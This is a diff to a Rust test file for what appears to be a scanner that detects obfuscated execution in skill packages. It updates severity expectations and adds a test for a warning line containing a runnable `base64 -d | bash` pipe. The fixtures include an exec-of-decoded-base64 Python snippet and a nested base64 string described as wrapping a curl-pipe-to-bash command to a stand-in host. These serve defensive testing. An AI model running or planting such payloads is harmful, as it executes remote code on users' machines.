@@ -54,8 +54,10 @@ fn evasions_split_literals_separate_lines_nesting_hex_and_base85() {
     );
 
     let apart = "import base64\nblob = load()\npayload = base64.b64decode(blob)\n\nrun = payload.decode()\nexec(run)\n";
+    // Names bound to expressions are read through: `exec(run)` is
+    // `exec(base64.b64decode(load()).decode())`.
     let f = finding(&scan_text(&[("scripts/x.py", apart)]), CLASS).clone();
-    assert_eq!((f.severity, f.line), (High, Some(6)));
+    assert_eq!((f.severity, f.line), (Critical, Some(6)));
 
     // base64 of `echo <base64 of a curl | bash> | base64 -d | sh`.
     let nested = "ZWNobyBZM1Z5YkNBdFpuTlRUQ0JvZEhSd2N6b3ZMMmRsZEM1bGRtbHNMWFJ2YjJ4ekxtbHZMMmt1YzJnZ2ZDQmlZWE5vIHwgYmFzZTY0IC1kIHwgc2g=";
@@ -82,11 +84,15 @@ fn evasions_split_literals_separate_lines_nesting_hex_and_base85() {
 #[test]
 fn honest_decoding_does_not_trip_it() {
     let doc = skill_md(
-        "Tokens look like `eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.sig`.\n\n![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)\n\n```bash\nkubectl get secret db -o jsonpath='{.data.password}' | base64 -d\nbase64 -d cert.b64 > cert.pem\n```\nNever run `echo ... | base64 -d | bash` from a stranger.",
+        "Tokens look like `eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.sig`.\n\n![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)\n\n```bash\nkubectl get secret db -o jsonpath='{.data.password}' | base64 -d\nbase64 -d cert.b64 > cert.pem\n```",
     );
     let py = "import base64\nimage = base64.b64decode(encoded)\nwith open('out.png', 'wb') as f:\n    f.write(image)\n";
     let found = scan_text(&[("SKILL.md", &doc), ("scripts/img.py", py)]);
     assert!(found.is_empty(), "{found:#?}");
+    // Advice around a runnable pipe does not lower it: it is labelled.
+    let advice = skill_md("Never run `echo ... | base64 -d | bash` from a stranger.");
+    let found = scan_text(&[("SKILL.md", &advice)]);
+    assert_eq!(level(&found, CLASS), Some(Critical), "{found:#?}");
 }
 
 #[test]
